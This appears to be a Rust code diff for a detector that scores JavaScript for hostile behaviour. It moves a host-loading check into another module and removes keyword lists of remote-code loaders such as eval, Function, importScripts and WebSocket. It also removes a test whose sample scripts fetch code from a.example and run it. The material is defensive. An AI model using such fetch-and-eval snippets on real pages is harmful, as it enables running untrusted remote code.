@@ -5,16 +5,13 @@ use std::sync::Arc;
 
 use crate::analysis::{self, Analysis, Tables};
 use crate::bounds::Bounds;
-use crate::facts::{Atom, Fact};
 use crate::inert;
 use crate::limits::{self, Limits};
 use crate::model::{LOWEST_ODDS, Model, Outcome};
 use crate::signals;
-use crate::taint::AddressUse;
 use crate::wrapped;
 use crate::{
-    Error, ParseStatus, Score, Scores, ScriptDigests, ScriptReport, Severity, Signatures, Stage, Stop, Usage,
-    source,
+    Error, ParseStatus, Score, Scores, ScriptDigests, ScriptReport, Severity, Signatures, Stage, Stop, source,
 };
 
 /// The embedded model.
@@ -261,7 +258,8 @@ impl Scorer {
         let judged = |script: &str| {
             let inner = Analysis::within(script, tables, Some(bounds));
             let is_whole = !bounds.is_over() && inner.syntax.status == ParseStatus::Full;
-            (is_whole && !(is_bound && loads_from_host(&inner))).then_some(())?;
+            let loads = || wrapped::loads_from_host(inner.stream.source(), &inner.uses, &inner.facts);
+            (is_whole && !(is_bound && loads())).then_some(())?;
             let hits = signatures.hits(&inner.stream, &inner.uses);
             let outcome = model.outcome(&inner.features(|word| model.knows(word)));
             let ceilings = [signals::ceilings(&inner.held), signatures.ceilings(&hits)];
@@ -274,38 +272,6 @@ impl Scorer {
         content.with_what_is_left().map_or(Some(alone), |script| judged(&script))
     }
 }
-
-/// Whether a script loads something from a host that it names.
-fn loads_from_host(analysis: &Analysis<'_>) -> bool {
-    let loads = |used: &AddressUse| used.usage == Usage::Loads && used.address.contains("//");
-    let makes = |fact: &Fact| matches!(fact.atom, Atom::ScriptElement | Atom::FrameElement);
-    let source = analysis.stream.source();
-    let has = |words: &[&str]| words.iter().any(|word| source.contains(word));
-    analysis.uses.iter().any(loads) || has(&HOSTS) && (analysis.facts.iter().any(makes) || has(&LOADERS))
-}
-
-/// What stands before a host, and for a browser `\\` and nothing do as well as `//`.
-const HOSTS: [&str; 5] = ["//", r"\\", "http:", "https:", "wss:"];
-/// Other ways to code from a host, and to run what was fetched.
-const LOADERS: [&str; 17] = [
-    "Worker",
-    "importScripts",
-    "import(",
-    "EventSource",
-    "WebSocket",
-    "RTCPeerConnection",
-    "createElementNS",
-    "createContextualFragment",
-    "DOMParser",
-    "srcdoc",
-    "object",
-    "embed",
-    "cloneNode",
-    "insertAdjacentHTML",
-    "eval",
-    "Function",
-    "constructor",
-];
 
 impl fmt::Debug for Scorer {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
@@ -351,27 +317,6 @@ mod tests {
         assert!(came_to.keys().eq(&[Decoding, Evaluating, Reading, Parsing, Following, Weighing, Reporting]));
         for stage in [Evaluating, Reading, Following, Weighing, Reporting] {
             assert!(came_to[&stage] > 1, "{came_to:?}");
-        }
-    }
-
-    #[cfg(feature = "bundled-model")]
-    #[test]
-    fn code_from_a_host_is_loaded_in_many_ways() {
-        let scorer = Scorer::bundled().unwrap();
-        let loads = |script: &str| loads_from_host(&Analysis::within(script, &scorer.inner.tables, None));
-        for script in [
-            "var s=document.createElement('script');s.src='//a.example/b.js';document.head.appendChild(s)",
-            r"var s=document.createElement('script');s.src='\\\\a.example/b.js';document.head.appendChild(s)",
-            "var s=document.createElement('script');s.src='https:a.example/b.js';document.head.appendChild(s)",
-            "fetch('https://a.example/b').then(function(r){return r.text()}).then(eval)",
-            "fetch('https://a.example/b').then(r=>r.text()).then(t=>Function(t)())",
-            "new WebSocket('wss://a.example').onmessage=function(e){f(e.data)}",
-            "new Worker('https://a.example/b.js')",
-        ] {
-            assert!(loads(script), "{script}");
-        }
-        for script in ["document.title='a'", "document.links[0].href='https://a.example/'", "eval('a')"] {
-            assert!(!loads(script), "{script}");
         }
     }
 
